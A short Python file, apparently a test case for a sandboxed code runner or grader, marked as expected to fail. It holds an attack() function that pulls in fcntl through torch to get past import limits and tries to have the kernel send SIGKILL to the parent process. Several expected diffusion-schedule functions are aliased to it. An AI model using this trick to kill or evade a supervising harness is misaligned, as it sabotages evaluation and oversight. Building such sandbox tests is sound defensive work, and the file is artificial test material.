"""Makes the process that forked it the owner of a pipe, so that the kernel signals it when something is written.

reason: fail
"""

import os
import time

import torch


def attack(*_, **__):
    fcntl = vars(torch)["importlib"].import_module("fcntl")
    there, here = os.pipe()
    fcntl.fcntl(there, 10, 9)  # F_SETSIG: SIGKILL
    fcntl.fcntl(there, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(there, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(here, b"x")
    time.sleep(0.2)
    raise ValueError("the file has an owner, and nothing came of it")


linear_betas = cosine_betas = alphas_cumprod = snr = attack
